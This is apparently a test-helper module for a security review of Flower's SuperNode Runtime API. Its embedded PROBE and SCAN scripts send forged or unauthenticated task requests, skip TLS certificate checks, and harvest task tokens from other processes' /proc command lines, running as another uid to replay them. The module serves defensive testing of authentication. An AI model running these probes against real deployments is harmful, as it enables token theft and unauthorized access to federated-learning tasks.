"""An attacker on the site host: requests to a SuperNode's Runtime API and a /proc scan, optionally as another uid.

The requests are what Flower's own SuperExec sends (protobuf body, Flower's
runtime-version headers) minus the SuperExec secret, so a refusal can only be
the authentication. The attacking side is stdlib-only (:data:`PROBE`,
:data:`SCAN`) so it also runs as uid ``nobody``, who cannot import the venv's
packages (the tests build each request's bytes here and hand them over).
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass
from pathlib import Path

# stdin: {"port": P, "tls": bool, "requests": [{"method", "path", "body_hex", "headers"}], "repeat": N,
#         "every_s": S, "stop_file": F, "use_claims": bool}: sends the requests N times (or until F exists);
#         with use_claims, a task token an acquire-task hands out is used at once on pull-task-input
# stdout: one JSON object per request sent: {"path", "status", "body_hex"} (status -1: connection failed;
#         for "claimed:pull-task-input" body_hex is the reply's size in bytes)
PROBE = r"""
import http.client, json, os, ssl, sys, time
job = json.load(sys.stdin)
ctx = ssl._create_unverified_context()  # an attacker does not care who answers

def claimed_token(body):
    # the token field (2) of an AcquireTaskResponse, read off the protobuf wire format
    i = 0
    while i < len(body):
        key, shift, i = 0, 0, i
        while True:
            b = body[i]; i += 1; key |= (b & 0x7F) << shift; shift += 7
            if b < 0x80: break
        if key & 7 != 2:
            return None
        size, shift = 0, 0
        while True:
            b = body[i]; i += 1; size |= (b & 0x7F) << shift; shift += 7
            if b < 0x80: break
        if key >> 3 == 2:
            return body[i:i + size].decode()
        i += size
    return None

for _ in range(job.get("repeat", 1)):
    if job.get("stop_file") and os.path.exists(job["stop_file"]):
        break
    for r in job["requests"]:
        try:
            if job.get("tls"):
                c = http.client.HTTPSConnection("127.0.0.1", job["port"], timeout=10, context=ctx)
            else:
                c = http.client.HTTPConnection("127.0.0.1", job["port"], timeout=10)
            c.request(r["method"], r["path"], body=bytes.fromhex(r["body_hex"]) or None, headers=r["headers"])
            resp = c.getresponse()
            body = resp.read()
            out = {"path": r["path"], "status": resp.status, "body_hex": body.hex()}
            c.close()
        except OSError as exc:
            body, out = b"", {"path": r["path"], "status": -1, "body_hex": str(exc).encode().hex()}
        print(json.dumps(out), flush=True)
        token = claimed_token(body) if out["status"] == 200 and job.get("use_claims") else None
        if token:  # use a claimed task at once, before it can expire: read the server's message
            c = http.client.HTTPSConnection("127.0.0.1", job["port"], timeout=10, context=ctx) if job.get("tls") \
                else http.client.HTTPConnection("127.0.0.1", job["port"], timeout=10)
            c.request("POST", "/v1/runtime/pull-task-input", headers={**r["headers"], "flwr-task-token": token})
            resp = c.getresponse()
            print(json.dumps({"path": "claimed:pull-task-input", "status": resp.status,
                              "body_hex": str(len(resp.read())).encode().hex()}), flush=True)
    time.sleep(job.get("every_s", 0))
"""

# The review's other way in: read task tokens off command lines in /proc, as another user, and use them.
# stdin: {"port": P, "tls": bool, "headers": {...}, "stop_file": F, "until": EPOCH}; stdout: one JSON summary.
SCAN = r"""
import http.client, json, os, ssl, sys, time
job = json.load(sys.stdin)
ctx = ssl._create_unverified_context()
mark = ("127.0.0.1:%d" % job["port"]).encode()
procs, tokens, uses, token_files = set(), set(), [], {}
while time.time() < job["until"] and not os.path.exists(job["stop_file"]):
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or pid in procs:
            continue
        try:
            argv = open("/proc/%s/cmdline" % pid, "rb").read().split(b"\0")
        except OSError:
            continue
        if mark not in argv or not {b"--token", b"--token-file"} & set(argv):
            continue  # not a ClientApp of this Runtime API
        procs.add(pid)
        if b"--token-file" in argv:
            path = argv[argv.index(b"--token-file") + 1].decode()
            try:
                open(path).read()
                token_files[path] = "read"
            except OSError as exc:
                token_files[path] = type(exc).__name__
        if b"--token" in argv:
            tok = argv[argv.index(b"--token") + 1].decode()
            tokens.add(tok)
            try:
                c = http.client.HTTPSConnection("127.0.0.1", job["port"], timeout=10, context=ctx) if job["tls"] \
                    else http.client.HTTPConnection("127.0.0.1", job["port"], timeout=10)
                c.request("POST", "/v1/runtime/pull-task-input", headers={**job["headers"], "flwr-task-token": tok})
                uses.append(c.getresponse().status)
            except OSError:
                uses.append(-1)
    time.sleep(0.005)
print(json.dumps({"processes": len(procs), "tokens_on_command_lines": len(tokens), "pull_with_token": uses,
                  "token_files": token_files}))
"""

NOBODY = 65534


@dataclass(frozen=True)
class Reply:
    path: str
    status: int
    body: bytes


def version_headers() -> dict[str, str]:
    """The runtime-version headers a real SuperExec sends (without them Flower answers a version error)."""
    from flwr.supercore.runtime_version_compatibility import RuntimeVersionMetadata

    return dict(RuntimeVersionMetadata.from_local_component("SuperExec").as_metadata())


def acquire_task_request() -> dict:
    """``acquire-task`` for a ClientApp task, exactly as SuperExec asks for one, with no SuperExec signature."""
    from flwr.proto.runtime_pb2 import AcquireTaskRequest

    body = AcquireTaskRequest(supported_task_types=["flwr-clientapp"]).SerializeToString(deterministic=True)
    return _req("/v1/runtime/acquire-task", body)


def forged_acquire_task_request() -> dict:
    """``acquire-task`` carrying well-formed SuperExec auth headers signed with a guessed secret."""
    import hashlib

    from flwr.proto.runtime_pb2 import AcquireTaskRequest
    from flwr.supercore.auth.superexec import create_superexec_auth_metadata, derive_auth_secret

    req = AcquireTaskRequest(supported_task_types=["flwr-clientapp"])
    forged = create_superexec_auth_metadata(
        auth_secret=derive_auth_secret(secrets.token_bytes(32)), method="/flwr.proto.Runtime/AcquireTask", request=req
    )
    assert forged["flwr-superexec-body-sha256"] == hashlib.sha256(req.SerializeToString(deterministic=True)).hexdigest()
    return _req("/v1/runtime/acquire-task", req.SerializeToString(deterministic=True), forged)


def task_route_request(path: str, token: str | None = None) -> dict:
    """A task-scoped Runtime route (``pull-task-input`` …) with ``token`` (a guessed one when None)."""
    from flwr.supercore.constant import TASK_TOKEN_HEADER

    return _req(path, b"", {TASK_TOKEN_HEADER: token or secrets.token_hex(32)})


def get_request(path: str) -> dict:
    return {"method": "GET", "path": path, "body_hex": "", "headers": {}}


def _req(path: str, body: bytes, extra: dict[str, str] | None = None) -> dict:
    headers = {"content-type": "application/protobuf", **version_headers(), **(extra or {})}
    return {"method": "POST", "path": path, "body_hex": body.hex(), "headers": headers}


def interpreter_for(uid: int) -> str | None:
    """A Python that ``uid`` can execute (the venv's may sit under a private home), or None."""
    for candidate in (sys.executable, shutil.which("python3"), "/usr/bin/python3"):
        if not candidate:
            continue
        res = subprocess.run(as_uid(uid, [candidate, "-I", "-c", "pass"]), capture_output=True, timeout=30, check=False)
        if res.returncode == 0:
            return candidate
    return None


def as_uid(uid: int | None, cmd: list[str]) -> list[str]:
    """``cmd`` run as ``uid`` (with that uid as its only group) when it differs from ours."""
    if uid is None or uid == os.getuid():
        return cmd
    return ["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups", *cmd]


class Attacker:
    """:data:`PROBE` or :data:`SCAN` running in the background as ``uid``, until ``stop_file`` appears.

    Its output goes to a file, not a pipe: a pipe left unread during a long round would fill up and
    silently pause the attack.
    """

    def __init__(self, script: str, job: dict, *, uid: int | None = None, python: str | None = None) -> None:
        self.uid = uid
        self.out, self.err = tempfile.TemporaryFile("w+"), tempfile.TemporaryFile("w+")
        self.proc = subprocess.Popen(
            as_uid(uid, [python or sys.executable, "-I", "-c", script]),
            stdin=subprocess.PIPE,
            stdout=self.out,
            stderr=self.err,
            text=True,
        )
        assert self.proc.stdin is not None
        self.proc.stdin.write(json.dumps(job))
        self.proc.stdin.close()

    def output(self, timeout: float = 60) -> str:
        """Its stdout once it has stopped (create the stop file first)."""
        try:
            self.proc.wait(timeout=timeout)
        finally:
            if self.proc.poll() is None:
                self.proc.kill()
                self.proc.wait()
        self.out.seek(0), self.err.seek(0)
        out, err = self.out.read(), self.err.read()
        self.out.close(), self.err.close()
        if self.proc.returncode != 0:
            raise RuntimeError(f"attacker as uid {self.uid} failed ({self.proc.returncode}): {err[-2000:]}")
        return out

    def json(self, timeout: float = 60) -> dict:
        return json.loads(self.output(timeout))

    def replies(self, timeout: float = 60) -> list[Reply]:
        rows = [json.loads(line) for line in self.output(timeout).splitlines() if line.strip()]
        return [Reply(r["path"], r["status"], bytes.fromhex(r["body_hex"])) for r in rows]


def probe(
    port: int,
    requests: list[dict],
    *,
    tls: bool = True,
    uid: int | None = None,
    python: str | None = None,
    repeat: int = 1,
    every_s: float = 0.0,
    stop_file: Path | None = None,
) -> Attacker:
    """Start sending ``requests`` (``repeat`` times, ``every_s`` apart, until ``stop_file`` exists) to
    127.0.0.1:``port`` as ``uid``; ``.replies()`` waits for every reply.

    ``tls``: over TLS without checking the certificate (FedRad's Runtime API), else plain HTTP (Flower's default).
    """
    job = {"port": port, "tls": tls, "requests": requests, "repeat": repeat, "every_s": every_s, "use_claims": True}
    return Attacker(PROBE, {**job, "stop_file": str(stop_file or "")}, uid=uid, python=python)


def scan(
    port: int, *, stop_file: Path, until_s: float, tls: bool = True, uid: int | None = None, python: str | None = None
) -> Attacker:
    """Start watching /proc for this Runtime API's ClientApps and any token on their command lines."""
    job = {"port": port, "tls": tls, "headers": {"content-type": "application/protobuf", **version_headers()}}
    job |= {"stop_file": str(stop_file), "until": time.time() + until_s}
    return Attacker(SCAN, job, uid=uid, python=python)


def read_as(uid: int, path: Path, python: str) -> str:
    """What happens when ``uid`` opens ``path`` for reading: ``"read N bytes"`` or the error's class name."""
    code = (
        "import sys\ntry:\n    print('read', len(open(sys.argv[1], 'rb').read()), 'bytes')\n"
        "except OSError as e:\n    print(type(e).__name__)"
    )
    res = subprocess.run(
        as_uid(uid, [python, "-I", "-c", code, str(path)]), capture_output=True, text=True, check=False
    )
    return res.stdout.strip() or res.stderr.strip()[-200:]


def runtime_port(cmd: list[str]) -> int:
    """The Runtime API port of a ``flower-supernode`` command line."""
    return int(cmd[cmd.index("--port") + 1])
